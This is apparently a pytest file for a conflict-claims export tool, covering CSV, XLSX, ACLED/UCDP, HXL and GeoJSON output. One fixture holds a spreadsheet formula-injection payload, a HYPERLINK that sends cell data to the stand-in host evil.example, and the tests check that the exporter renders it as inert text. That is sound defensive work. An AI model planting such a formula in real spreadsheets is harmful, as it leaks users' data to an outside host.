"""The field formats as analysts open them: pandas, the csv module as a spreadsheet reads a
file, openpyxl reading the XLSX back; mixed UTC offsets, formulas in quotes, HXL rows."""

from __future__ import annotations

import csv
import json
import re
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from tests.conftest import ClaimFactory
from truce.domain.claims import Claim, EventType, Source
from truce.io import acled, flat, ucdp
from truce.io.field_export import BOM, export_field

HXL_TAG = re.compile(r"^#[a-z][a-z0-9_]*(\+[a-z][a-z0-9_]*)*$")
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def claims(make_claim: ClaimFactory) -> list[Claim]:
    """Claims written with three different offsets, one with a formula for a quote, several
    sources, and a place."""
    place = {"name": "Rafah", "lat": 31.29, "lon": 34.25, "country": "PSE", "geo_precision": 1}
    return [
        make_claim(0, date=datetime(2023, 11, 24, 16, tzinfo=timezone(timedelta(hours=2)))),
        make_claim(1, date=datetime(2023, 11, 24, 14, 1, tzinfo=UTC), quote=EVIL,
                   sources=(Source(outlet="AFP"), Source(outlet="Reuters", anonymous=True))),
        make_claim(2, type=EventType.BREACH, quantity=None, extra={"place": place},
                   date=datetime(2023, 11, 25, 3, tzinfo=timezone(timedelta(hours=-5))),
                   notes="pasted\x00from\x1ba terminal"),
    ]  # fmt: skip


def test_csv_excel_reads_in_pandas_with_utc_dates(tmp_path: Path, claims: list[Claim]) -> None:
    out = tmp_path / "claims.csv"
    assert export_field(claims, "csv-excel", out) == 3
    assert out.read_bytes().startswith(BOM.encode("utf-8"))
    frame = pd.read_csv(out, encoding="utf-8-sig")
    assert list(frame.columns) == list(flat.COLUMNS)
    when = pd.to_datetime(frame["date_utc"], utc=True)
    assert list(when) == [pd.Timestamp(c.date) for c in claims]
    assert frame.loc[1, "source_outlet"] == "AFP; Reuters"
    assert frame.loc[1, "source_anonymous"] == "no; yes"
    assert frame.loc[2, "lat"] == 31.29 and frame.loc[2, "country"] == "PSE"
    assert not any(str(v).startswith(("[", "{")) for v in frame.to_numpy().ravel())


def test_csv_excel_cells_as_a_spreadsheet_reads_them(tmp_path: Path, claims: list[Claim]) -> None:
    out = tmp_path / "claims.csv"
    export_field(claims, "csv-excel", out, hxl=True)
    with open(out, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    header, tags, *body = rows
    assert header[0] == "id" and all(len(r) == len(header) for r in rows)
    assert all(HXL_TAG.match(t) for t in tags)
    quote = body[1][header.index("quote")]
    assert quote == "'" + EVIL  # a spreadsheet shows it as text, never runs it
    assert body[0][header.index("date_utc")] == "2023-11-24 14:00:00"
    assert body[2][header.index("date_utc")] == "2023-11-25 08:00:00"


def test_xlsx_reads_back_with_dates_and_text_that_is_never_a_formula(
    tmp_path: Path, claims: list[Claim]
) -> None:
    out = tmp_path / "claims.xlsx"
    assert export_field(claims, "xlsx", out, hxl=True) == 3
    sheet = openpyxl.load_workbook(out)["claims"]
    rows = list(sheet.iter_rows(values_only=True))
    header, tags, *body = rows
    assert header == flat.COLUMNS and tags[0] == "#meta+id"
    at = header.index("date_utc")
    assert [r[at] for r in body] == [c.date.astimezone(UTC).replace(tzinfo=None) for c in claims]
    cell = sheet.cell(row=4, column=header.index("quote") + 1)
    assert cell.value == EVIL and cell.data_type == "s"
    assert body[0][header.index("quantity")] == 13
    assert body[2][header.index("notes")] == "pasted\ufffdfrom\ufffda terminal"
    frame = pd.read_excel(out, skiprows=[1])
    assert len(frame) == 3 and frame["date_utc"].dtype.kind == "M"


@pytest.mark.parametrize(("fmt", "module"), [("acled", acled), ("ucdp", ucdp)])
def test_acled_and_ucdp_csv_with_hxl_read_in_pandas(
    tmp_path: Path, claims: list[Claim], fmt: str, module: object
) -> None:
    out = tmp_path / f"{fmt}.csv"
    export_field(claims, fmt, out, hxl=True)
    frame = pd.read_csv(out, skiprows=[1])  # the HXL row under the header
    assert list(frame.columns) == list(module.COLUMNS)  # type: ignore[attr-defined]
    assert list(frame["truce_claim_id"]) == [c.id for c in claims]
    tags = pd.read_csv(out, nrows=1).iloc[0]
    assert all(HXL_TAG.match(t) for t in tags)
    date = "event_date" if fmt == "acled" else "date_start"
    assert list(pd.to_datetime(frame[date]).dt.day) == [24, 24, 25]


def test_geojson_holds_only_the_claims_with_a_place(tmp_path: Path, claims: list[Claim]) -> None:
    out = tmp_path / "claims.geojson"
    assert export_field(claims, "geojson", out) == 1
    features = json.loads(out.read_text(encoding="utf-8"))["features"]
    assert features[0]["geometry"]["coordinates"] == [34.25, 31.29]
